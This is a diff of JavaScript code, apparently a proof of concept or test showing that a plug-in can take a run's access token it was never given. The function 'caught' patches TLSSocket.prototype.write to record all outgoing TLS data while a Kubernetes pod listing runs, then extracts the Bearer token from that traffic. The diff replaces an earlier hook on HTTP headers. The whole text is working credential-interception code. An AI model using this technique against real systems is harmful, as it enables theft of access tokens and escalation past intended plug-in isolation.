@@ -102,17 +102,17 @@ const api = ({ server }, method, path, body, token) => new Promise((resolve, rej
 })
 // The token of the run is not handed to plug-ins, but they share a process with what sends it.
 async function caught(context) {
-  const { prototype } = http.OutgoingMessage
-  const { _storeHeader } = prototype
+  const { prototype } = load('tls').TLSSocket
+  const { write } = prototype
   let text = ''
-  prototype._storeHeader = function (first, headers) {
-    text += first + JSON.stringify(headers)
-    return _storeHeader.call(this, first, headers)
+  prototype.write = function (data, ...rest) {
+    text += Buffer.from(data).toString('latin1')
+    return write.call(this, data, ...rest)
   }
   try {
     for await (const _ of context.kube.list({ version: 'v1', plural: 'pods', namespaces: [context.run.namespace] })) break
   } finally {
-    prototype._storeHeader = _storeHeader
+    delete prototype.write
   }
   return /Bearer ([\\w.-]+)/.exec(text)[1]
 }
